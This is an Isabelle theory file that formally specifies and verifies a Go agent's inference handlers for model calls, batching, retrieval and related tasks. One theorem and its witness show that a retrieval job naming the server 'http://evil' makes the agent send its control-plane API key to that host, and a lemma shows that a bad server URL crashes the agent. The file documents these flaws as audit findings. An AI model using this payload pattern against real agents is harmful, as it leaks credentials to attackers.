(* ===== verification/AgentInference.thy ===== *)
theory AgentInference
  imports AgentTasks
begin

text \<open>
  The language-model capabilities of the agent (\<^verbatim>\<open>init\<close> in \<^verbatim>\<open>cmd/spectral-agent/main.go\<close>, the handlers whose names
  start with \<^verbatim>\<open>inference\<close>): what they ask of the model service and of the key-value API, and what they make of the
  replies. A handler gives the requests it sends and its result and error message; no result stands for a panic,
  which ends the agent. The services are a function from the number of a call and the request to the reply.
\<close>

section \<open>Requests and replies\<close>

text \<open>The body of a request is given by the document whose encoding is sent.\<close>

record out_request =
  wr_method :: string
  wr_url :: string
  wr_headers :: "(string \<times> string) list"
  wr_body :: "json option"

text \<open>The environment variables, the services (an error, or the status and the bytes read), the JSON reader (on a whole
  text, and on the first value of a stream), the text of a type error, and which URLs parse.\<close>

record infer_env =
  ie_env :: "string \<Rightarrow> string"
  ie_ask :: "nat \<Rightarrow> out_request \<Rightarrow> string + int \<times> string"
  ie_unmarshal :: "string \<Rightarrow> string + json"
  ie_first :: "string \<Rightarrow> json option"
  ie_type_error :: "json \<Rightarrow> string"
  ie_url_ok :: "string \<Rightarrow> bool"

type_synonym answer = "(string \<times> string) option \<times> out_request list"

definition or_default :: "string \<Rightarrow> string \<Rightarrow> string" where
  "or_default s d = (if s = [] then d else s)"

definition tokens_arg :: "args \<Rightarrow> int \<Rightarrow> int" where
  "tokens_arg p d = (case map_of p ''max_tokens'' of
     None \<Rightarrow> d
   | Some v \<Rightarrow> (case as_float v of None \<Rightarrow> d | Some r \<Rightarrow> if float_to_int r > 0 then float_to_int r else d))"

definition model_key :: "infer_env \<Rightarrow> string" where
  "model_key E = ie_env E ''ANTHROPIC_API_KEY''"

definition model_url :: string where
  "model_url = ''https://api.anthropic.com/v1/messages''"

definition model_request :: "infer_env \<Rightarrow> json \<Rightarrow> out_request" where
  "model_request E body =
     \<lparr>wr_method = ''POST'', wr_url = model_url,
      wr_headers = [(''Content-Type'', ''application/json''), (''x-api-key'', model_key E), (''anthropic-version'', ''2023-06-01'')],
      wr_body = Some body\<rparr>"

text \<open>The body with one message of the user.\<close>

definition chat_body :: "string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> json \<Rightarrow> json" where
  "chat_body model tokens system content =
     JObj ([(''model'', JStr model), (''max_tokens'', JInt tokens)] @ opt_str ''system'' system @
       [(''messages'', JArr [JObj [(''role'', JStr ''user''), (''content'', content)]])])"

text \<open>A decoded reply: the model, the token counts, the blocks (type and text), and the error (type and message).\<close>

record model_reply =
  mr_model :: string
  mr_input :: int
  mr_output :: int
  mr_blocks :: "(string \<times> string) list"
  mr_error :: "(string \<times> string) option"

fun reply_object :: "json \<Rightarrow> (string \<times> json) list option" where
  "reply_object JNull = Some []"
| "reply_object (JObj fs) = Some fs"
| "reply_object _ = None"

fun reply_list :: "((string \<times> json) list \<Rightarrow> 'a option) \<Rightarrow> json \<Rightarrow> 'a list option" where
  "reply_list f JNull = Some []"
| "reply_list f (JArr xs) = sequence_opt (map (\<lambda>x. Option.bind (reply_object x) f) xs)"
| "reply_list f _ = None"

definition two_strs :: "string \<Rightarrow> string \<Rightarrow> (string \<times> json) list \<Rightarrow> (string \<times> string) option" where
  "two_strs k l fs = (case (as_str (field fs k), as_str (field fs l)) of (Some a, Some b) \<Rightarrow> Some (a, b) | _ \<Rightarrow> None)"

definition reply_usage :: "json \<Rightarrow> (int \<times> int) option" where
  "reply_usage v = (case reply_object v of None \<Rightarrow> None
     | Some fs \<Rightarrow> (case (as_int (field fs ''input_tokens''), as_int (field fs ''output_tokens'')) of
                    (Some a, Some b) \<Rightarrow> Some (a, b) | _ \<Rightarrow> None))"

definition reply_error :: "bool \<Rightarrow> json \<Rightarrow> (string \<times> string) option option" where
  "reply_error typed v =
     (if v = JNull then Some None
      else case reply_object v of None \<Rightarrow> None
        | Some fs \<Rightarrow> (case (if typed then as_str (field fs ''type'') else Some [], as_str (field fs ''message'')) of
                       (Some t, Some m) \<Rightarrow> Some (Some (t, m)) | _ \<Rightarrow> None))"

text \<open>The struct a handler decodes into has the fields for the model and the usage (\<open>meta\<close>) and for the type of an error
  (\<open>typed\<close>) or not; a field it does not have is not looked at.\<close>

definition decode_reply :: "bool \<Rightarrow> bool \<Rightarrow> json \<Rightarrow> model_reply option" where
  "decode_reply meta typed v =
     (case reply_object v of None \<Rightarrow> None
      | Some fs \<Rightarrow>
        (case (if meta then as_str (field fs ''model'') else Some [], if meta then reply_usage (field fs ''usage'') else Some (0, 0),
               reply_list (two_strs ''type'' ''text'') (field fs ''content''), reply_error typed (field fs ''error'')) of
           (Some m, Some (i, u), Some bs, Some e) \<Rightarrow> Some \<lparr>mr_model = m, mr_input = i, mr_output = u, mr_blocks = bs, mr_error = e\<rparr>
         | _ \<Rightarrow> None))"

datatype model_result = NoReply string | BadReply string | Reply int model_reply

definition ask_model :: "infer_env \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> json \<Rightarrow> model_result" where
  "ask_model E n meta typed body =
     (case ie_ask E n (model_request E body) of
        Inl e \<Rightarrow> NoReply e
      | Inr (st, raw) \<Rightarrow>
          (case ie_unmarshal E raw of
             Inl e \<Rightarrow> BadReply e
           | Inr v \<Rightarrow> (case decode_reply meta typed v of None \<Rightarrow> BadReply (ie_type_error E v) | Some r \<Rightarrow> Reply st r)))"

definition block_text :: "model_reply \<Rightarrow> string" where
  "block_text r = concat (map snd (filter (\<lambda>b. fst b = ''text'') (mr_blocks r)))"

text \<open>Documents whose numbers are all integers.\<close>

abbreviation int_text :: "json \<Rightarrow> string" where
  "int_text \<equiv> json_text (\<lambda>r. show_int \<lfloor>r\<rfloor>) show_int"

abbreviation nl :: string where "nl \<equiv> [CHR 0x0A]"

abbreviation haiku :: string where "haiku \<equiv> ''claude-haiku-4-5-20251001''"

abbreviation sonnet :: string where "sonnet \<equiv> ''claude-sonnet-4-6''"

abbreviation no_key :: answer where "no_key \<equiv> (Some ([], ''ANTHROPIC_API_KEY is not set''), [])"

section \<open>One prompt\<close>

definition cap_inference :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference E p =
     (if model_key E = [] then no_key
      else if str_arg p ''prompt'' = [] then (Some (missing ''prompt''), [])
      else let body = chat_body (or_default (str_arg p ''model'') haiku) (tokens_arg p 1024) (str_arg p ''system'') (JStr (str_arg p ''prompt''))
        in (Some (case ask_model E 0 True True body of
               NoReply e \<Rightarrow> ([], ''inference: http: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference: decode response: '' @ e)
             | Reply st r \<Rightarrow>
                 (case mr_error r of
                    Some (ty, msg) \<Rightarrow> ([], ''inference: anthropic error ('' @ ty @ ''): '' @ msg)
                  | None \<Rightarrow>
                      if st \<noteq> 200 then ([], ''inference: unexpected status '' @ show_int st)
                      else (int_text (JObj [(''content'', JStr (block_text r)), (''input_tokens'', JInt (mr_input r)),
                             (''model'', JStr (mr_model r)), (''output_tokens'', JInt (mr_output r))]), []))),
            [model_request E body]))"

text \<open>\<^verbatim>\<open>inference-code\<close>: the dash is three bytes.\<close>

definition code_system :: "string \<Rightarrow> string" where
  "code_system lang = join '' ''
     ([''You are an expert software engineer. Produce correct, idiomatic, production-ready code.'',
       ''Return only code and inline comments '' @ [CHR 0xE2, CHR 0x80, CHR 0x94] @ '' no prose unless the user specifically asks for explanation.''] @
      (if lang \<noteq> [] then [''Preferred language: '' @ lang @ ''.''] else []))"

definition cap_inference_code :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_code E p =
     (if model_key E = [] then no_key
      else if str_arg p ''prompt'' = [] then (Some (missing ''prompt''), [])
      else let lang = str_arg p ''language'';
               body = chat_body (or_default (str_arg p ''model'') sonnet) (tokens_arg p 4096) (code_system lang) (JStr (str_arg p ''prompt''))
        in (Some (case ask_model E 0 True False body of
               NoReply e \<Rightarrow> ([], ''inference-code: http: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference-code: decode: '' @ e)
             | Reply st r \<Rightarrow>
                 (case mr_error r of
                    Some (ty, msg) \<Rightarrow> ([], ''inference-code: '' @ msg)
                  | None \<Rightarrow> (int_text (JObj [(''content'', JStr (block_text r)), (''input_tokens'', JInt (mr_input r)), (''language'', JStr lang),
                      (''model'', JStr (mr_model r)), (''output_tokens'', JInt (mr_output r))]), []))),
            [model_request E body]))"

definition cap_inference_vision :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_vision E p =
     (if model_key E = [] then no_key
      else if str_arg p ''prompt'' = [] then (Some (missing ''prompt''), [])
      else if str_arg p ''image_base64'' = [] then (Some (missing ''image_base64''), [])
      else let source = JObj [(''type'', JStr ''base64''), (''media_type'', JStr (or_default (str_arg p ''media_type'') ''image/jpeg'')),
                 (''data'', JStr (str_arg p ''image_base64''))];
               body = chat_body (or_default (str_arg p ''model'') sonnet) (tokens_arg p 1024) []
                 (JArr [JObj [(''type'', JStr ''image''), (''source'', source)], JObj [(''type'', JStr ''text''), (''text'', JStr (str_arg p ''prompt''))]])
        in (Some (case ask_model E 0 True False body of
               NoReply e \<Rightarrow> ([], ''inference-vision: http: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference-vision: decode: '' @ e)
             | Reply st r \<Rightarrow>
                 (case mr_error r of
                    Some (ty, msg) \<Rightarrow> ([], ''inference-vision: '' @ msg)
                  | None \<Rightarrow> (int_text (JObj [(''content'', JStr (block_text r)), (''input_tokens'', JInt (mr_input r)),
                      (''model'', JStr (mr_model r)), (''output_tokens'', JInt (mr_output r))]), []))),
            [model_request E body]))"

fun text_of :: "json \<Rightarrow> string option" where
  "text_of (JStr s) = Some s"
| "text_of _ = None"

definition list_arg :: "args \<Rightarrow> string \<Rightarrow> json list" where
  "list_arg p k = (case map_of p k of Some (JArr xs) \<Rightarrow> xs | _ \<Rightarrow> [])"

definition cap_inference_classify :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_classify E p =
     (if model_key E = [] then no_key
      else if str_arg p ''text'' = [] then (Some (missing ''text''), [])
      else if list_arg p ''labels'' = [] then (Some (missing ''labels''), [])
      else let labels = List.map_filter text_of (list_arg p ''labels'');
               mode = (if map_of p ''multi_label'' = Some (JBool True) then ''one or more labels as a JSON array'' else ''exactly one label'');
               prompt = ''Classify the text. Labels: '' @ join '', '' labels @ nl @
                 ''Return ONLY JSON: single-label: {\"label\":\"...\",\"confidence\":0-1}; multi-label: {\"labels\":[...],\"confidence\":{}}.'' @ nl @
                 ''Select '' @ mode @ ''.'' @ nl @ nl @ ''Text:'' @ nl @ str_arg p ''text'';
               body = chat_body (or_default (str_arg p ''model'') haiku) (tokens_arg p 256)
                 ''You are a text classification engine. Return only valid JSON.'' (JStr prompt)
        in (Some (case ask_model E 0 False False body of
               NoReply e \<Rightarrow> ([], ''inference-classify: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference-classify: decode: '' @ e)
             | Reply st r \<Rightarrow> (case mr_error r of Some (ty, msg) \<Rightarrow> ([], ''inference-classify: '' @ msg) | None \<Rightarrow> (block_text r, []))),
            [model_request E body]))"

definition cap_inference_translate :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_translate E p =
     (let source = str_arg p ''source_language''; target = str_arg p ''target_language'' in
      if model_key E = [] then no_key
      else if str_arg p ''text'' = [] then (Some (missing ''text''), [])
      else if target = [] then (Some (missing ''target_language''), [])
      else let from_line = (if source \<noteq> [] \<and> source \<noteq> ''auto'' then '' from '' @ source else []);
               prompt = ''Translate the following text'' @ from_line @ '' to '' @ target @ ''. Return only the translated text.'' @ nl @ nl @ str_arg p ''text'';
               body = chat_body (or_default (str_arg p ''model'') haiku) (tokens_arg p 2048)
                 ''You are a professional translator. Return only the translated text.'' (JStr prompt)
        in (Some (case ask_model E 0 True False body of
               NoReply e \<Rightarrow> ([], ''inference-translate: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference-translate: decode: '' @ e)
             | Reply st r \<Rightarrow>
                 (case mr_error r of
                    Some (ty, msg) \<Rightarrow> ([], ''inference-translate: '' @ msg)
                  | None \<Rightarrow> (int_text (JObj [(''input_tokens'', JInt (mr_input r)), (''model'', JStr (mr_model r)), (''output_tokens'', JInt (mr_output r)),
                      (''target_language'', JStr target), (''translation'', JStr (block_text r))]), []))),
            [model_request E body]))"

section \<open>Many prompts\<close>

text \<open>\<^verbatim>\<open>inference-batch\<close> starts one goroutine for each non-empty prompt; \<open>order\<close> is the order in which their outcomes arrive. Call
  \<open>i\<close> is the one for prompt \<open>i\<close>.\<close>

definition batch_prompt :: "json \<Rightarrow> string" where
  "batch_prompt v = (case text_of v of Some s \<Rightarrow> s | None \<Rightarrow> [])"

definition batch_body :: "args \<Rightarrow> string \<Rightarrow> json" where
  "batch_body p prompt = chat_body (or_default (str_arg p ''model'') haiku) (tokens_arg p 1024) (str_arg p ''system'') (JStr prompt)"

definition batch_outcome :: "infer_env \<Rightarrow> args \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<times> string" where
  "batch_outcome E p i prompt =
     (case ask_model E i False False (batch_body p prompt) of
        NoReply e \<Rightarrow> ([], e)
      | BadReply e \<Rightarrow> ([], ''decode: '' @ e)
      | Reply st r \<Rightarrow> (case mr_error r of Some (ty, msg) \<Rightarrow> ([], msg) | None \<Rightarrow> (block_text r, [])))"

definition batch_result :: "nat \<Rightarrow> string \<times> string \<Rightarrow> json" where
  "batch_result i ce = JObj ([(''index'', JInt (int i))] @ opt_str ''content'' (fst ce) @ opt_str ''error'' (snd ce))"

definition asked :: "json list \<Rightarrow> nat list" where
  "asked prompts = filter (\<lambda>i. batch_prompt (prompts ! i) \<noteq> []) [0..<length prompts]"

definition cap_inference_batch :: "infer_env \<Rightarrow> nat list \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_batch E order p =
     (let prompts = list_arg p ''prompts'' in
      if model_key E = [] then no_key
      else if prompts = [] then (Some ([], ''payload.prompts (array) is required''), [])
      else let results = fold (\<lambda>i rs. rs[i := batch_result i (batch_outcome E p i (batch_prompt (prompts ! i)))]) order
                 (replicate (length prompts) (batch_result 0 ([], [])))
        in (Some (int_text (JObj [(''results'', JArr results)]), []),
            map (\<lambda>i. model_request E (batch_body p (batch_prompt (prompts ! i)))) (asked prompts)))"

section \<open>Retrieval\<close>

text \<open>\<^verbatim>\<open>url.QueryEscape\<close>.\<close>

definition upper_hex :: "nat \<Rightarrow> char" where
  "upper_hex d = (if d < 10 then char_of (48 + d) else char_of (55 + d))"

definition unreserved :: "char \<Rightarrow> bool" where
  "unreserved c \<longleftrightarrow> (let n = (of_char c :: nat) in 65 \<le> n \<and> n \<le> 90 \<or> 97 \<le> n \<and> n \<le> 122 \<or> 48 \<le> n \<and> n \<le> 57) \<or>
     c = CHR ''-'' \<or> c = CHR ''_'' \<or> c = CHR ''.'' \<or> c = CHR ''~''"

definition query_escape :: "string \<Rightarrow> string" where
  "query_escape s = concat (map (\<lambda>c. if unreserved c then [c] else if c = CHR '' '' then ''+''
     else [CHR ''%'', upper_hex (of_char c div 16), upper_hex (of_char c mod 16)]) s)"

definition trim_slashes :: "string \<Rightarrow> string" where
  "trim_slashes s = rev (dropWhile (\<lambda>c. c = CHR ''/'') (rev s))"

definition kv_request :: "infer_env \<Rightarrow> args \<Rightarrow> out_request" where
  "kv_request E p =
     (let server = or_default (or_default (str_arg p ''server'') (ie_env E ''SPECTRAL_SERVER'')) ''http://localhost:8080'';
          tenant = or_default (or_default (str_arg p ''tenant'') (ie_env E ''SPECTRAL_TENANT'')) ''default'';
          key = or_default (str_arg p ''api_key'') (ie_env E ''SPECTRAL_API_KEY'')
      in \<lparr>wr_method = ''GET'', wr_url = trim_slashes server @ ''/kv?prefix='' @ query_escape (str_arg p ''kv_prefix''),
          wr_headers = (if key \<noteq> [] then [(''X-API-Key'', key)] else []) @ [(''X-Tenant-ID'', tenant)], wr_body = None\<rparr>)"

definition kv_documents :: "infer_env \<Rightarrow> out_request \<Rightarrow> string list" where
  "kv_documents E req =
     (case ie_ask E 0 req of
        Inl e \<Rightarrow> []
      | Inr (st, raw) \<Rightarrow>
          (case ie_first E raw of None \<Rightarrow> []
           | Some v \<Rightarrow> (case Option.bind (reply_object v) (\<lambda>fs. reply_list (two_strs ''key'' ''value'') (field fs ''entries'')) of
                         None \<Rightarrow> []
                       | Some kvs \<Rightarrow> map (\<lambda>(k, v). ''['' @ k @ '']'' @ nl @ v) kvs)))"

definition inline_documents :: "args \<Rightarrow> string list" where
  "inline_documents p = filter (\<lambda>d. d \<noteq> []) (List.map_filter text_of (list_arg p ''context_docs''))"

fun numbered_documents :: "nat \<Rightarrow> string list \<Rightarrow> string" where
  "numbered_documents i [] = []"
| "numbered_documents i (d # ds) = ''--- Document '' @ show_nat i @ '' ---'' @ nl @ d @ nl @ nl @ numbered_documents (Suc i) ds"

definition rag_prompt :: "string list \<Rightarrow> string \<Rightarrow> string" where
  "rag_prompt docs prompt =
     (if docs = [] then []
      else ''Use the following context documents to answer the question. If the answer is not in the documents, say so.'' @ nl @ nl @
        numbered_documents 1 docs @ ''--- Question ---'' @ nl) @ prompt"

text \<open>A URL that does not parse gives no request, and setting a header of it panics.\<close>

definition cap_inference_rag :: "infer_env \<Rightarrow> args \<Rightarrow> answer" where
  "cap_inference_rag E p =
     (let prompt = str_arg p ''prompt''; req = kv_request E p; fetch = (str_arg p ''kv_prefix'' \<noteq> []) in
      if model_key E = [] then no_key
      else if prompt = [] then (Some (missing ''prompt''), [])
      else if fetch \<and> \<not> ie_url_ok E (wr_url req) then (None, [])
      else let docs = inline_documents p @ (if fetch then kv_documents E req else []);
               body = chat_body (or_default (str_arg p ''model'') haiku) (tokens_arg p 2048)
                 ''You are a helpful assistant that answers questions based on provided context documents.'' (JStr (rag_prompt docs prompt))
        in (Some (case ask_model E 1 True False body of
               NoReply e \<Rightarrow> ([], ''inference-rag: http: '' @ e)
             | BadReply e \<Rightarrow> ([], ''inference-rag: decode: '' @ e)
             | Reply st r \<Rightarrow>
                 (case mr_error r of
                    Some (ty, msg) \<Rightarrow> ([], ''inference-rag: '' @ msg)
                  | None \<Rightarrow> (int_text (JObj [(''content'', JStr (block_text r)), (''context_count'', JInt (int (length docs))),
                      (''input_tokens'', JInt (mr_input r)), (''model'', JStr (mr_model r)), (''output_tokens'', JInt (mr_output r))]), []))),
            (if fetch then [req] else []) @ [model_request E body]))"

text \<open>The table.\<close>

definition infer_cap :: "infer_env \<Rightarrow> nat list \<Rightarrow> string \<Rightarrow> args \<Rightarrow> answer option" where
  "infer_cap E order name p =
     (if name = ''inference'' then Some (cap_inference E p)
      else if name = ''inference-batch'' then Some (cap_inference_batch E order p)
      else if name = ''inference-code'' then Some (cap_inference_code E p)
      else if name = ''inference-vision'' then Some (cap_inference_vision E p)
      else if name = ''inference-rag'' then Some (cap_inference_rag E p)
      else if name = ''inference-classify'' then Some (cap_inference_classify E p)
      else if name = ''inference-translate'' then Some (cap_inference_translate E p)
      else None)"

section \<open>Properties\<close>

text \<open>Filling a table slot by slot, each slot at most once, in any order.\<close>

lemma fill_nth:
  assumes "distinct order" "set order \<subseteq> {..<length rs}" "k < length rs"
  shows "fold (\<lambda>i rs. rs[i := f i]) order rs ! k = (if k \<in> set order then f k else rs ! k)"
  using assms
proof (induction order arbitrary: rs)
  case (Cons i order)
  then show ?case by (cases "i = k") auto
qed simp

lemma fill_length: "length (fold (\<lambda>i rs. rs[i := f i]) order rs) = length rs"
  by (induction order arbitrary: rs) simp_all

text \<open>C30. Whatever order the goroutines of a batch finish in, each entry of the results is the outcome of the prompt in its place, under
  its number, for every prompt that is a non-empty string; the entry of any other prompt is blank and has the number 0.\<close>

theorem batch_by_index:
  assumes "distinct order" "set order = set (asked (list_arg p ''prompts''))" "model_key E \<noteq> []" "list_arg p ''prompts'' \<noteq> []"
  shows "fst (cap_inference_batch E order p) = Some (int_text (JObj [(''results'', JArr
    (map (\<lambda>(i, v). if batch_prompt v \<noteq> [] then batch_result i (batch_outcome E p i (batch_prompt v)) else batch_result 0 ([], []))
      (enumerate 0 (list_arg p ''prompts''))))]), [])"
proof -
  let ?ps = "list_arg p ''prompts''"
  let ?f = "\<lambda>i. batch_result i (batch_outcome E p i (batch_prompt (?ps ! i)))" and ?blank = "replicate (length ?ps) (batch_result 0 ([], []))"
  have "fold (\<lambda>i rs. rs[i := ?f i]) order ?blank = map (\<lambda>(i, v). if batch_prompt v \<noteq> []
      then batch_result i (batch_outcome E p i (batch_prompt v)) else batch_result 0 ([], [])) (enumerate 0 ?ps)" (is "_ = ?rs")
  proof (rule nth_equalityI)
    show "length (fold (\<lambda>i rs. rs[i := ?f i]) order ?blank) = length ?rs" by (simp add: fill_length)
    show "fold (\<lambda>i rs. rs[i := ?f i]) order ?blank ! k = ?rs ! k" if "k < length (fold (\<lambda>i rs. rs[i := ?f i]) order ?blank)" for k
    proof -
      have k: "k < length ?ps" using that by (simp add: fill_length)
      have "set order \<subseteq> {..<length ?blank}" using assms(2) by (auto simp: asked_def)
      from fill_nth [OF assms(1) this, of k ?f] k show ?thesis
        by (simp add: assms(2) asked_def nth_enumerate_eq)
    qed
  qed
  with assms(3,4) show ?thesis by (simp add: cap_inference_batch_def Let_def)
qed

definition model_only :: "infer_env \<Rightarrow> out_request \<Rightarrow> bool" where
  "model_only E r \<longleftrightarrow> model_key E \<noteq> [] \<and> (\<exists>body. r = model_request E body)"

lemma model_only_req [intro]: "model_key E \<noteq> [] \<Longrightarrow> model_only E (model_request E body)"
  by (auto simp: model_only_def)

lemma model_only_caps:
  "list_all (model_only E) (snd (cap_inference E p))"
  "list_all (model_only E) (snd (cap_inference_batch E order p))"
  "list_all (model_only E) (snd (cap_inference_code E p))"
  "list_all (model_only E) (snd (cap_inference_vision E p))"
  "list_all (model_only E) (snd (cap_inference_classify E p))"
  "list_all (model_only E) (snd (cap_inference_translate E p))"
  unfolding cap_inference_def cap_inference_batch_def cap_inference_code_def cap_inference_vision_def cap_inference_classify_def
    cap_inference_translate_def Let_def
  by (simp_all add: model_only_req list_all_iff split: if_split)

lemma model_only_other:
  assumes "infer_cap E order name p = Some a" "name \<noteq> ''inference-rag''"
  shows "list_all (model_only E) (snd a)"
  using assms(1) unfolding infer_cap_def if_not_P [OF assms(2)]
  by (simp only: option.inject option.distinct split: if_split_asm) (hypsubst, rule model_only_caps)+

text \<open>The key of the model service is sent nowhere but to the model service: a request of any of these capabilities
  is a request of the model service or, for retrieval, the request of the key-value API, which does not carry that key
  in the header for it. Without a key no request is sent at all.\<close>

theorem model_key_confined:
  assumes "infer_cap E order name p = Some (res, reqs)" "r \<in> set reqs"
  shows "model_key E \<noteq> [] \<and> (wr_url r = model_url \<and> map_of (wr_headers r) ''x-api-key'' = Some (model_key E) \<or>
    name = ''inference-rag'' \<and> wr_method r = ''GET'' \<and> map_of (wr_headers r) ''x-api-key'' = None)"
proof (cases "name = ''inference-rag''")
  case True
  with assms(1) have "cap_inference_rag E p = (res, reqs)" by (simp add: infer_cap_def)
  then have "model_only E r \<or> model_key E \<noteq> [] \<and> r = kv_request E p"
    using assms(2) model_only_req unfolding cap_inference_rag_def Let_def by (simp only: prod.inject split: if_split_asm) auto
  moreover have "wr_method (kv_request E p) = ''GET''" "map_of (wr_headers (kv_request E p)) ''x-api-key'' = None"
    by (simp_all add: kv_request_def Let_def)
  ultimately show ?thesis using True by (auto simp: model_only_def model_request_def)
next
  case False
  from model_only_other [OF assms(1) False] assms(2) show ?thesis by (auto simp: list_all_iff model_only_def model_request_def)
qed

text \<open>C34. A job can take the control plane's key out of the agent: a retrieval whose payload names a server, and no key of its own,
  sends the key of the agent's environment to that server.\<close>

theorem rag_gives_key_away:
  assumes "str_arg p ''prompt'' \<noteq> []" "str_arg p ''kv_prefix'' \<noteq> []" "str_arg p ''server'' \<noteq> []" "str_arg p ''api_key'' = []"
    and "model_key E \<noteq> []" "ie_env E ''SPECTRAL_API_KEY'' \<noteq> []"
    and url: "ie_url_ok E (trim_slashes (str_arg p ''server'') @ ''/kv?prefix='' @ query_escape (str_arg p ''kv_prefix''))"
  shows "\<exists>r \<in> set (snd (cap_inference_rag E p)). prefix (trim_slashes (str_arg p ''server'')) (wr_url r) \<and>
    map_of (wr_headers r) ''X-API-Key'' = Some (ie_env E ''SPECTRAL_API_KEY'')"
proof
  have r: "wr_url (kv_request E p) = trim_slashes (str_arg p ''server'') @ ''/kv?prefix='' @ query_escape (str_arg p ''kv_prefix'')"
    "map_of (wr_headers (kv_request E p)) ''X-API-Key'' = Some (ie_env E ''SPECTRAL_API_KEY'')"
    using assms(3,4,6) by (simp_all add: kv_request_def or_default_def Let_def)
  then show "prefix (trim_slashes (str_arg p ''server'')) (wr_url (kv_request E p)) \<and>
      map_of (wr_headers (kv_request E p)) ''X-API-Key'' = Some (ie_env E ''SPECTRAL_API_KEY'')" by simp
  show "kv_request E p \<in> set (snd (cap_inference_rag E p))"
    using assms(1,2,5) url r(1) by (simp only: cap_inference_rag_def Let_def) simp
qed

text \<open>A server that does not parse as a URL ends the agent.\<close>

lemma rag_bad_server_panics:
  "model_key E \<noteq> [] \<Longrightarrow> str_arg p ''prompt'' \<noteq> [] \<Longrightarrow> str_arg p ''kv_prefix'' \<noteq> [] \<Longrightarrow> \<not> ie_url_ok E (wr_url (kv_request E p)) \<Longrightarrow>
   fst (cap_inference_rag E p) = None"
  by (simp add: cap_inference_rag_def Let_def)

text \<open>Only plain inference looks at the status of a reply: the same failed call, with a body that is a JSON object without error
  and without content, is an error of that capability and an empty success of the other capabilities.\<close>

theorem failed_call_passes:
  assumes "model_key E \<noteq> []" "str_arg p ''prompt'' \<noteq> []" "st \<noteq> 200" "ie_unmarshal E raw = Inr (JObj [])"
    and fail: "ie_ask E = (\<lambda>n r. Inr (st, raw))"
  shows "fst (cap_inference E p) = Some ([], ''inference: unexpected status '' @ show_int st) \<and>
    (\<exists>r. fst (cap_inference_code E p) = Some (r, []) \<and> r \<noteq> [])"
proof -
  have "ask_model E 0 True typed body = Reply st \<lparr>mr_model = [], mr_input = 0, mr_output = 0, mr_blocks = [], mr_error = None\<rparr>" for typed body
    using assms(4) by (simp add: ask_model_def fail decode_reply_def field_def reply_usage_def reply_error_def)
  then show ?thesis using assms(1-3) by (simp add: cap_inference_def cap_inference_code_def Let_def json_object_def)
qed

section \<open>A concrete run\<close>

definition ex_infer_env :: infer_env where
  "ex_infer_env = \<lparr>ie_env = (\<lambda>k. if k = ''ANTHROPIC_API_KEY'' then ''k'' else if k = ''SPECTRAL_API_KEY'' then ''s'' else []),
     ie_ask = (\<lambda>n r. Inr (502, ''{}'')), ie_unmarshal = (\<lambda>t. Inr (JObj [])), ie_first = (\<lambda>t. Some (JObj [])),
     ie_type_error = (\<lambda>v. ''type''), ie_url_ok = (\<lambda>u. True)\<rparr>"

lemma ex_infer_keys [simp]:
  "model_key ex_infer_env = ''k''" "ie_env ex_infer_env ''SPECTRAL_API_KEY'' = ''s''" "ie_url_ok ex_infer_env u"
  "ie_ask ex_infer_env = (\<lambda>n r. Inr (502, ''{}''))" "ie_unmarshal ex_infer_env t = Inr (JObj [])"
  by (simp_all add: ex_infer_env_def model_key_def)

theorem batch_by_index_witness:
  "fst (cap_inference_batch ex_infer_env [2, 0] [(''prompts'', JArr [JStr ''a'', JNull, JStr ''b''])]) \<noteq> None"
proof -
  let ?p = "[(''prompts'', JArr [JStr ''a'', JNull, JStr ''b''])]"
  have ps: "list_arg ?p ''prompts'' = [JStr ''a'', JNull, JStr ''b'']" by (simp add: list_arg_def)
  have "set [2, 0] = set (asked (list_arg ?p ''prompts''))" by (auto simp: ps asked_def batch_prompt_def upt_rec)
  from batch_by_index [OF _ this, of ex_infer_env] show ?thesis by (simp add: ps)
qed

theorem model_key_confined_witness:
  "wr_url (hd (snd (cap_inference ex_infer_env [(''prompt'', JStr ''q'')]))) = ''https://api.anthropic.com/v1/messages''"
proof -
  let ?p = "[(''prompt'', JStr ''q'')]"
  have "snd (cap_inference ex_infer_env ?p) \<noteq> []" by (simp add: cap_inference_def str_arg_def Let_def)
  then have "hd (snd (cap_inference ex_infer_env ?p)) \<in> set (snd (cap_inference ex_infer_env ?p))" by simp
  from model_key_confined [OF _ this, of ex_infer_env "[]" "''inference''" ?p "fst (cap_inference ex_infer_env ?p)"]
  show ?thesis by (simp add: infer_cap_def model_url_def)
qed

theorem rag_gives_key_away_witness:
  "\<exists>r \<in> set (snd (cap_inference_rag ex_infer_env [(''prompt'', JStr ''q''), (''kv_prefix'', JStr ''d''), (''server'', JStr ''http://evil'')])).
     map_of (wr_headers r) ''X-API-Key'' = Some ''s''"
  using rag_gives_key_away [of "[(''prompt'', JStr ''q''), (''kv_prefix'', JStr ''d''), (''server'', JStr ''http://evil'')]" ex_infer_env]
  by (auto simp: str_arg_def)

theorem failed_call_passes_witness:
  "fst (cap_inference ex_infer_env [(''prompt'', JStr ''q'')]) = Some ([], ''inference: unexpected status 502'')"
proof -
  have "show_int 502 = ''502''" by (simp add: show_int_def show_nat.simps)
  with failed_call_passes [of ex_infer_env "[(''prompt'', JStr ''q'')]" 502 "''{}''"] show ?thesis by (simp add: str_arg_def)
qed
end
